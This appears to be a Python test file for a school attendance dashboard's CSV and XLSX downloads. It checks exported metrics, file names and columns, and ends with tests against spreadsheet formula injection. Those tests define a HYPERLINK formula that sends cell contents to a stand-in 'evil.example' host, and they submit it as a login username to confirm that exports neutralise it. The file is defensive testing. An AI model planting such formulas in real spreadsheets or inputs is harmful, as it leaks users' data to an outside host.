"""Downloads: each page's CSV and XLSX hold what the page shows, with the numbers the metrics
layer computes; file names and types are right; nothing in them runs as a spreadsheet formula."""

from __future__ import annotations

import datetime as dt
import io
import math

import duckdb
import pytest

from web.conftest import Expected, csrf_of, read_csv, read_xlsx, student_key


def close(a: object, b: float) -> bool:
    return math.isclose(float(a), float(b), rel_tol=1e-9, abs_tol=1e-9)


def filename(answer) -> str:  # noqa: ANN001
    return answer.headers["content-disposition"].split('filename="')[1].rstrip('"')


# -- the district ------------------------------------------------------------------------------


def test_district_downloads_hold_the_schools_tiers_and_trend(
    client_for,
    expected: Expected,
    latest: dt.date,  # noqa: ANN001
) -> None:
    viewer = client_for("viewer")
    answer = viewer.get("/", params={"format": "csv", "table": "schools"})
    assert filename(answer) == f"district-{latest}-schools.csv"
    schools = {r["School ID"]: r for r in read_csv(answer)}
    want = expected.metrics("school", latest).set_index("school_id")
    assert set(schools) == set(want.index)
    for school, row in want.iterrows():
        got = schools[school]
        assert close(got["Chronic absence rate"], row.chronic_absence_rate), school
        assert close(got["ADA"], row.ada), school
        assert int(got["Students eligible"]) == row.students_eligible
        assert int(got["Chronically absent"]) == row.chronically_absent_count
        assert got["Level"] == row.level
        assert close(got["Prior year's rate"], row.prior_chronic_absence_rate), school
        assert got["Suppressed"] == "False"

    district = expected.metrics("district", latest).iloc[0]
    tiers = read_csv(viewer.get("/", params={"format": "csv", "table": "tiers"}))
    assert [(r["Tier"], int(r["Students"])) for r in tiers] == [
        ("Satisfactory", district.satisfactory_count),
        ("At risk", district.at_risk_count),
        ("Moderate chronic", district.moderate_chronic_count),
        ("Severe chronic", district.severe_chronic_count),
    ]

    trend = read_csv(viewer.get("/", params={"format": "csv", "table": "trend"}))
    last = trend[-1]
    assert (last["As of"], last["Point"]) == (latest.isoformat(), "as_of")
    assert close(last["Chronic absence rate"], district.chronic_absence_rate)
    october = next(r for r in trend if r["As of"] == "2024-10-31")
    then = expected.metrics("district", dt.date(2024, 10, 31)).iloc[0]
    assert close(october["Chronic absence rate"], then.chronic_absence_rate)
    assert int(october["Students eligible"]) == then.students_eligible
    assert {r["School year"] for r in trend} == {"2024", "2025"}

    book = viewer.get("/", params={"format": "xlsx"})
    assert filename(book) == f"district-{latest}.xlsx"
    sheets = read_xlsx(book)
    assert list(sheets) == ["schools", "tiers", "trend"]
    assert {r["School ID"]: r["Chronic absence rate"] for r in sheets["schools"]} == pytest.approx(
        {s: float(r["Chronic absence rate"]) for s, r in schools.items()}
    )
    assert [r["Students"] for r in sheets["tiers"]] == [int(r["Students"]) for r in tiers]
    assert len(sheets["trend"]) == len(trend)


@pytest.mark.parametrize("day", [dt.date(2024, 3, 31), dt.date(2025, 2, 12)])
def test_district_download_at_an_earlier_date(day: dt.date, client_for, expected: Expected) -> None:  # noqa: ANN001
    """A month end of the year before, and a date with no prepared snapshot (made on demand)."""
    analyst = client_for("analyst")
    rows = read_csv(analyst.get("/", params={"as_of": day, "format": "csv"}))
    want = expected.metrics("school", day).set_index("school_id")
    assert {r["School ID"]: float(r["Chronic absence rate"]) for r in rows} == pytest.approx(
        want["chronic_absence_rate"].to_dict()
    )
    district = expected.metrics("district", day).iloc[0]
    tiers = read_csv(analyst.get("/", params={"as_of": day, "format": "csv", "table": "tiers"}))
    assert [int(r["Students"]) for r in tiers] == [
        district.satisfactory_count,
        district.at_risk_count,
        district.moderate_chronic_count,
        district.severe_chronic_count,
    ]
    trend = read_csv(analyst.get("/", params={"as_of": day, "format": "csv", "table": "trend"}))
    assert (trend[-1]["As of"], trend[-1]["Point"]) == (day.isoformat(), "as_of")
    assert float(trend[-1]["Chronic absence rate"]) == pytest.approx(district.chronic_absence_rate)


# -- a school ----------------------------------------------------------------------------------


def test_school_downloads_hold_grades_groups_trend_and_watch_list(
    client_for,
    district,
    expected: Expected,
    latest: dt.date,  # noqa: ANN001
) -> None:
    school = district.staff_school
    sheets = read_xlsx(client_for("admin").get(f"/schools/{school}", params={"format": "xlsx"}))
    assert list(sheets) == ["tiers", "grades", "groups", "trend", "watch list"]
    grades = expected.metrics("school", latest, by=("grade_level",)).query("school_id == @school")
    shown = {r["Group"]: r for r in sheets["grades"] if not r["Suppressed"]}
    for g in grades.itertuples():
        words = {"PK": "Pre-kindergarten", "KG": "Kindergarten"}
        label = words.get(g.grade_level) or f"Grade {int(g.grade_level)}"
        if label in shown:
            assert shown[label]["Students eligible"] == g.students_eligible
            assert shown[label]["Chronic absence rate"] == pytest.approx(g.chronic_absence_rate)
    assert len(shown) >= 3
    # Suppressed groups carry no numbers.
    for row in sheets["groups"]:
        if row["Suppressed"]:
            assert row["Students eligible"] is None and row["Chronic absence rate"] is None

    students = (
        expected.metrics("student", latest).query("school_id == @school").set_index("student_id")
    )
    watch = sheets["watch list"]
    assert len(watch) == int(
        students["tier"].isin(["at_risk", "moderate_chronic", "severe_chronic"]).sum()
    )
    for row in watch:
        want = students.loc[row["Student ID"]]
        assert row["Days absent"] == pytest.approx(want.days_absent)
        assert row["Absence rate"] == pytest.approx(want.absence_rate)
        assert row["Tier"] == want.tier
    rates = [r["Absence rate"] for r in watch]
    assert rates == sorted(rates, reverse=True)


# -- students ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_student_list_download_holds_every_match_with_its_numbers(
    fmt: str,
    client_for,
    expected: Expected,
    latest: dt.date,  # noqa: ANN001
) -> None:
    answer = client_for("admin").get("/students", params={"format": fmt})
    assert filename(answer) == f"students-{latest}.{fmt}"
    rows = read_csv(answer) if fmt == "csv" else read_xlsx(answer)["students"]
    want = expected.metrics("student", latest, per="district").set_index("student_id")
    assert len(rows) == len(want)  # every page of the list, not the first 50
    assert {r["Student ID"] for r in rows} == set(want.index)
    for row in rows:
        student = want.loc[row["Student ID"]]
        assert close(row["Days absent"], student.days_absent), row["Student ID"]
        assert int(row["Days enrolled"]) == student.days_enrolled
        assert row["Tier"] == student.tier
        # Late arrivals and early departures, beside the absences and apart from them.
        assert int(row["Late arrivals"]) == student.tardies
        assert close(row["Late arrivals (days)"], student.tardy_days)
        assert int(row["Early departures"]) == student.early_departures
        assert close(row["Early departures (days)"], student.early_departure_days)
    assert any(int(r["Late arrivals"]) for r in rows)
    rates = [float(r["Absence rate"]) for r in rows]
    assert rates == sorted(rates, reverse=True)  # the list's order


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_student_downloads_name_the_school_and_the_school_year(
    fmt: str,
    client_for,
    district,
    expected: Expected,
    latest: dt.date,  # noqa: ANN001
) -> None:
    """Beside the numeric year (2025), its label (2024-25); beside the school id, its name."""
    admin = client_for("admin")
    year = int(expected.metrics("student", latest)["school_year"].iloc[0])
    label = f"{year - 1}-{year % 100:02d}"
    con = duckdb.connect(str(district.workspace.warehouse), read_only=True)
    try:
        names = dict(con.execute("SELECT school_id, school_name FROM schools").fetchall())
    finally:
        con.close()
    listed = admin.get("/students", params={"format": fmt})
    rows = read_csv(listed) if fmt == "csv" else read_xlsx(listed)["students"]
    for row in rows:
        assert (str(row["School year"]), row["School year (label)"]) == (str(year), label)
        assert row["School"] == names[row["School ID"]]
    header = list(rows[0])
    assert header.index("School year (label)") == header.index("School year") + 1
    key = student_key(district, rows[0]["Student ID"])
    sheets = read_xlsx(admin.get(f"/students/{key}", params={"format": "xlsx"}))
    for sheet, table in sheets.items():
        if sheet in ("plan", "actions", "contacts"):
            continue  # the casebook's tables: dated by their own dates, not by a school year
        assert table and all("School year (label)" in r for r in table), sheet
        if "School ID" in table[0]:
            assert all(r["School"] == names.get(r["School ID"]) for r in table if r["School ID"])


def test_filtered_student_list_download(client_for, expected: Expected, latest: dt.date) -> None:  # noqa: ANN001
    rows = read_csv(
        client_for("admin").get(
            "/students", params={"format": "csv", "tier": "moderate_chronic", "sort": "name"}
        )
    )
    want = expected.metrics("student", latest, per="district").query("tier == 'moderate_chronic'")
    assert sorted(r["Student ID"] for r in rows) == sorted(want["student_id"])
    names = [(r["Last name"], r["First name"]) for r in rows]
    assert names == sorted(names, reverse=True)  # sort=name, order desc by default


def test_student_download_adds_up_to_their_days_absent(
    client_for,
    district,
    expected: Expected,
    latest: dt.date,  # noqa: ANN001
) -> None:
    want = expected.metrics("student", latest, per="district")
    student = want[want["days_absent"] % 1 != 0].sort_values("student_id").iloc[0]
    key = student_key(district, student.student_id)
    admin = client_for("admin")
    calendar = admin.get(f"/students/{key}", params={"format": "csv", "table": "calendar"})
    assert filename(calendar) == f"student-{key}-2025-calendar.csv"  # the key, never the id
    days = [r for r in read_csv(calendar) if r["Enrolled that day"] == "True"]
    assert len(days) == student.days_enrolled
    assert sum(float(r["Counted as absent (days)"]) for r in days) == pytest.approx(
        student.days_absent
    )
    sheets = read_xlsx(admin.get(f"/students/{key}", params={"format": "xlsx"}))
    assert list(sheets) == [
        "calendar",
        "absences by category",
        "running rate",
        "tier history",
        "enrollments",
        "plan",
        "actions",
        "contacts",
    ]
    counted = sum(r["Counted as absent (days)"] for r in sheets["absences by category"])
    assert counted == pytest.approx(student.days_absent)
    last = sheets["running rate"][-1]
    assert last["Days absent"] == pytest.approx(student.days_absent)
    assert last["Absence rate"] == pytest.approx(student.absence_rate)
    assert last["Tier"] == student.tier
    con = duckdb.connect(str(district.workspace.warehouse), read_only=True)
    try:
        stays = con.execute(
            "SELECT school_id, entry_date FROM enrollments WHERE student_id = ? "
            "ORDER BY school_year, entry_date",
            [student.student_id],
        ).fetchall()
    finally:
        con.close()
    assert [(r["School ID"], r["Entry date"].date()) for r in sheets["enrollments"]] == stays


# -- equity and data ---------------------------------------------------------------------------


def test_equity_and_data_downloads(client_for, expected: Expected, latest: dt.date) -> None:  # noqa: ANN001
    viewer = client_for("viewer")
    sheets = read_xlsx(viewer.get("/equity", params={"format": "xlsx"}))
    assert "Sex" in sheets and "Race and ethnicity" in sheets
    by_sex = {r["Group"]: r for r in sheets["Sex"]}
    assert by_sex["Nonbinary (X)"]["Suppressed"] == "fewer than 10 eligible students"
    assert by_sex["Nonbinary (X)"]["Chronic absence rate"] is None
    flag = expected.metrics("district", latest, by=("economically_disadvantaged",))
    rows = {r["Group"]: r for r in sheets[next(s for s in sheets if "conomic" in s)]}
    rate = flag.set_index("economically_disadvantaged").loc[True, "chronic_absence_rate"]
    assert rows["Economically disadvantaged"]["Chronic absence rate"] == pytest.approx(rate)

    history = read_csv(viewer.get("/data", params={"format": "csv"}))
    assert [r["status"] for r in history] == ["loaded"]
    monitors = read_csv(viewer.get("/data", params={"format": "csv", "table": "monitors"}))
    assert {r["Status"] for r in monitors} <= {"ok", "info"}
    assert len(monitors) >= 5


@pytest.mark.parametrize("path", ["/", "/students", "/equity", "/data"])
def test_an_unknown_format_is_refused(path: str, client_for) -> None:  # noqa: ANN001
    answer = client_for("admin").get(path, params={"format": "pdf"})
    assert answer.status_code == 400
    assert "format must be csv or xlsx" in answer.text


# -- the audit log and formulas ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_text_from_outside_never_becomes_a_spreadsheet_formula(client_for, app) -> None:  # noqa: ANN001
    """A failed sign-in keeps the typed username in the audit log; exported, it stays text."""
    from fastapi.testclient import TestClient
    from openpyxl import load_workbook

    with TestClient(app, base_url="http://127.0.0.1") as stranger:
        token = csrf_of(stranger.get("/login").text)
        for name in (FORMULA, "+1+1", "@SUM(1)", "-2+3"):
            answer = stranger.post(
                "/login",
                data={"username": name, "password": "whatever it is", "csrf_token": token},
            )
            assert answer.status_code == 401
            token = csrf_of(answer.text)
    admin = client_for("admin")
    rows = read_csv(admin.get("/admin/audit", params={"format": "csv", "action": "sign_in_failed"}))
    names = [r["username"] for r in rows]
    assert any("HYPERLINK" in n for n in names)
    for name in names:
        assert not name.startswith(("=", "+", "-", "@")), name
    book = load_workbook(
        io.BytesIO(
            admin.get("/admin/audit", params={"format": "xlsx", "action": "sign_in_failed"}).content
        )
    )
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert any("HYPERLINK" in str(c.value) for c in cells)


def test_download_neutralises_every_formula_start_and_quotes_a_carriage_return() -> None:
    """A CR inside a field must not end the row in Excel; a negative number stays a number."""
    import csv as csv_module

    import pandas as pd
    from openpyxl import load_workbook

    from homeroom.web.exports import download

    names = [FORMULA, "+1", "-2", "@x", "\tx", "\rx", "a\rb"]
    safe = ["'" + n if n[0] in "=+-@\t\r" else n for n in names]
    frame = pd.DataFrame({"Name": names, "Change": [-1.5, -2, 0, 1, 2, 3, 4]})
    body = download({"rows": frame}, "t", "csv").body
    assert b'"a\rb"' in body
    rows = list(csv_module.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert [r[0] for r in rows[1:]] == safe
    assert [float(r[1]) for r in rows[1:]] == [-1.5, -2, 0, 1, 2, 3, 4]
    sheet = load_workbook(io.BytesIO(download({"rows": frame}, "t", "xlsx").body))["rows"]
    cells = list(sheet.iter_rows(min_row=2))
    assert [r[0].data_type for r in cells] == ["s"] * len(names)
    assert [r[0].value for r in cells] == [s.replace("\r", "\n") for s in safe]
    assert [r[1].value for r in cells] == [-1.5, -2, 0, 1, 2, 3, 4]
